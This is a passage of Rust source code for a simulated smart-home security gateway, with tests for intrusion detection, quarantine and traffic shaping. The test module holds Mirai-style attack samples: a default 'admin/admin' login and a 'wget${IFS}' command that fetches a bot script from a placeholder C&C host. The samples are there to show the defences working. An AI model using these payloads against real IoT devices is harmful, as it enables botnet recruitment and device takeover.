    /// Summarizes the run so far without consuming the runner (no final
    /// evaluation sweep; call [`XlfCore::evaluate`] yourself if needed).
    pub fn report(&self, now: SimTime) -> HomeReport {
        let core = self.home.core.borrow();
        let mut by_layer = [0usize; 3];
        for e in core.store.all() {
            let idx = match e.layer {
                crate::evidence::Layer::Device => 0,
                crate::evidence::Layer::Network => 1,
                crate::evidence::Layer::Service => 2,
            };
            by_layer[idx] += 1;
        }
        drop(core);

        // Fused verdict per device; the most suspicious one is the
        // home's headline. Iteration is in BTreeMap (name) order, ties
        // keep the first name — deterministic.
        let mut top_device = String::new();
        let mut top_score = 0.0f64;
        let device_names: Vec<String> = self.home.devices.keys().cloned().collect();
        for name in &device_names {
            let verdict = self.home.core.borrow_mut().verdict_for(name, now);
            if verdict.score > top_score || top_device.is_empty() {
                top_score = verdict.score;
                top_device = name.clone();
            }
        }

        let gateway = self.home.gateway_ref();
        let quarantined: Vec<String> = device_names
            .iter()
            .filter(|name| gateway.nac.is_quarantined(name))
            .cloned()
            .collect();

        let cloud = self.home.cloud;
        let samples: Vec<(f64, usize, bool)> = self
            .records
            .borrow()
            .iter()
            .map(|r| (r.at.as_secs_f64(), r.wire_size, r.dst == cloud))
            .collect();
        let features = xlf_analytics::features::window_features(&samples).to_vec();

        let core = self.home.core.borrow();
        HomeReport {
            seed: self.home.net.seed(),
            evidence_total: core.store.len(),
            evidence_dropped: core.bus.dropped(),
            evidence_shed: core.bus.shed(),
            evidence_by_layer: by_layer,
            warning_alerts: core.alerts.at_least(Severity::Warning).len(),
            critical_alerts: core.alerts.at_least(Severity::Critical).len(),
            quarantined,
            top_device,
            top_score,
            forwarded: gateway.forwarded,
            dropped_packets: gateway.dropped,
            features,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use xlf_device::Vulnerability;

    fn basic_home(config: XlfConfig) -> XlfHome {
        XlfHome::build(
            7,
            config,
            &[
                HomeDevice::new("thermo", SensorKind::Temperature)
                    .with_telemetry_period(Duration::from_secs(10)),
                HomeDevice::new("cam", SensorKind::Camera)
                    .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword]))
                    .with_telemetry_period(Duration::from_secs(10)),
            ],
        )
    }

    /// WAN attacker recruiting the weak camera through the gateway:
    /// login with default creds carrying a C&C bootstrap.
    struct Recruiter {
        gateway: NodeId,
    }
    impl Node for Recruiter {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            let login = Kind::Login {
                user: "admin",
                pass: "admin",
            };
            let bootstrap = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
            let login = Packet::new(ctx.id(), self.gateway, login, bootstrap).with_device("cam");
            ctx.send(self.gateway, login);
        }
    }

    fn recruit_cam(home: &mut XlfHome) {
        let gateway = home.gateway;
        let attacker = home.net.add_node(Box::new(Recruiter { gateway }));
        home.net
            .connect(attacker, gateway, Medium::Wan.link().with_loss(0.0));
    }

    #[test]
    fn benign_home_stays_quiet_under_full_xlf() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(600));
        let core = home.core.borrow();
        assert!(
            core.alerts.at_least(Severity::Critical).is_empty(),
            "benign traffic must not trigger critical alerts: {:?}",
            core.alerts.alerts()
        );
        assert!(home.gateway_ref().forwarded > 50, "telemetry must flow");
    }

    #[test]
    fn telemetry_reaches_the_cloud_through_the_gateway() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(120));
        let cloud = home.net.node_as::<CloudNode>(home.cloud).unwrap().cloud();
        let thermo = cloud.handlers.get("thermo").unwrap();
        assert!(thermo.value("temperature").is_some());
    }

    #[test]
    fn botnet_recruitment_is_detected_and_quarantined() {
        let mut home = basic_home(XlfConfig::full());
        // Let monitors learn the benign baseline.
        home.net.run_until(SimTime::from_secs(180));

        // Attacker on the WAN recruits the weak camera through the
        // gateway: login with default creds carrying a C&C bootstrap.
        recruit_cam(&mut home);
        home.net.run_until(SimTime::from_secs(400));

        let core = home.core.borrow();
        // DPI must have seen the C&C string; the DFA must have seen the
        // compromise transition; correlation must have escalated.
        assert!(
            core.alerts.has_alert("cam", Severity::Warning),
            "alerts: {:?}, evidence: {}",
            core.alerts.alerts(),
            core.store.len()
        );
        drop(core);
        assert!(
            home.gateway_ref().nac.is_quarantined("cam")
                || home
                    .core
                    .borrow()
                    .alerts
                    .has_alert("cam", Severity::Critical),
            "camera should be quarantined or critically flagged"
        );
    }

    #[test]
    fn gateway_scan_payload_flags_malicious_payloads() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(5));
        let gateway = home.net.node_as_mut::<XlfGateway>(home.gateway).unwrap();
        let payloads: [&[u8]; 4] = [
            b"benign telemetry",
            b"wget${IFS}http://cnc.evil/bot.sh",
            b"",
            b"/bin/busybox MIRAI",
        ];
        let flags: Vec<bool> = payloads
            .iter()
            .map(|p| gateway.scan_payload("cam", p, SimTime::from_secs(5)))
            .collect();
        assert_eq!(flags, vec![false, true, false, true]);
    }

    #[test]
    fn quarantined_devices_cannot_flood() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(130));
        // Quarantine the camera manually (as policy would).
        home.net
            .node_as_mut::<XlfGateway>(home.gateway)
            .unwrap()
            .nac
            .quarantine("cam");
        let before = home.net.stats().delivered;
        home.net.run_until(SimTime::from_secs(200));
        // Camera telemetry is now dropped at the gateway; only thermo
        // traffic flows to the cloud.
        let gateway = home.gateway_ref();
        assert!(gateway.dropped > 0, "quarantine must drop packets");
        let _ = before;
    }

    #[test]
    fn off_config_forwards_everything_blindly() {
        let mut home = basic_home(XlfConfig::off());
        home.net.run_until(SimTime::from_secs(300));
        let gateway = home.gateway_ref();
        assert_eq!(gateway.dropped, 0);
        assert!(home.core.borrow().store.is_empty());
    }

    #[test]
    fn correlation_results_steer_token_lifetimes() {
        // Benign home: calm lifetime.
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(200));
        assert_eq!(
            home.gateway_ref().auth_proxy.token_lifetime,
            Duration::from_secs(3600)
        );
        // Compromise the camera: the next evaluation shortens tokens.
        recruit_cam(&mut home);
        home.net.run_until(SimTime::from_secs(300));
        assert_eq!(
            home.gateway_ref().auth_proxy.token_lifetime,
            Duration::from_secs(300),
            "suspicion must shorten token lifetimes (§IV-A1)"
        );
    }

    #[test]
    fn home_runner_report_summarizes_a_benign_run() {
        let mut runner = HomeRunner::new(basic_home(XlfConfig::full()));
        runner.run_until(SimTime::from_secs(300));
        let report = runner.finish(SimTime::from_secs(300));
        assert_eq!(report.seed, 7);
        assert_eq!(report.critical_alerts, 0);
        assert!(report.quarantined.is_empty());
        assert!(report.forwarded > 50, "telemetry must flow");
        assert!(report.features[0] > 0.0, "tap must have seen traffic");
        assert_eq!(report.evidence_dropped, 0);
        assert_eq!(report.evidence_shed, 0);
    }

    #[test]
    fn bounded_evidence_capacity_reaches_the_home_core_bus() {
        let config = XlfConfig::full().with_evidence_capacity(Some(16));
        let home = basic_home(config);
        assert_eq!(home.core.borrow().bus.capacity(), Some(16));
        // The unbounded default is preserved.
        let home = basic_home(XlfConfig::full());
        assert_eq!(home.core.borrow().bus.capacity(), None);
    }

    #[test]
    fn a_tightly_bounded_home_still_runs_and_accounts_its_sheds() {
        // Capacity 1: all but the newest queued observation between Core
        // evaluations is shed; the run completes and the loss is
        // accounted, not silent.
        let config = XlfConfig::full().with_evidence_capacity(Some(1));
        let mut runner = HomeRunner::new(basic_home(config));
        runner.run_until(SimTime::from_secs(300));
        let report = runner.finish(SimTime::from_secs(300));
        assert_eq!(report.evidence_shed, report.evidence_dropped);
        assert!(report.forwarded > 50, "telemetry must still flow");
    }

    #[test]
    fn home_runner_reports_are_deterministic() {
        let run = || {
            let mut runner = HomeRunner::new(basic_home(XlfConfig::full()));
            runner.run_until(SimTime::from_secs(300));
            runner.finish(SimTime::from_secs(300))
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn constant_rate_mode_emits_cover_traffic_for_silent_devices() {
        let mut config = XlfConfig::full();
        config.shaping = crate::shaping::ShapingMode::ConstantRate {
            bucket: 1024,
            max_delay: Duration::from_millis(10),
            cover_interval: Duration::from_secs(5),
        };
        // A very quiet device: telemetry every 10 minutes.
        let mut home = XlfHome::build(
            5,
            config,
            &[HomeDevice::new("quiet-sensor", SensorKind::Temperature)
                .with_telemetry_period(Duration::from_secs(600))],
        );
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        home.net.run_until(SimTime::from_secs(120));
        let covers = records
            .borrow()
            .iter()
            .filter(|r| r.src == home.gateway && r.dst == home.cloud && r.wire_size == 1024)
            .count();
        assert!(
            covers >= 15,
            "silent flows must be covered (~1 per 5 s): got {covers}"
        );
        assert!(home.gateway_ref().shaping_cost().cover_packets > 0);
    }

    #[test]
    fn shaping_pads_upstream_traffic() {
        let mut config = XlfConfig::full();
        config.shaping = ShapingMode::PadOnly { bucket: 1024 };
        let mut home = basic_home(config);
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        home.net.run_until(SimTime::from_secs(120));
        // Gateway→cloud telemetry must all be padded to the bucket.
        let padded: Vec<_> = records
            .borrow()
            .iter()
            .filter(|r| r.src == home.gateway && r.dst == home.cloud)
            .map(|r| r.wire_size)
            .collect();
        assert!(!padded.is_empty());
        assert!(padded.iter().all(|&s| s % 1024 == 0), "sizes: {padded:?}");
        assert!(home.gateway_ref().shaping_cost().padding_bytes > 0);
    }
}
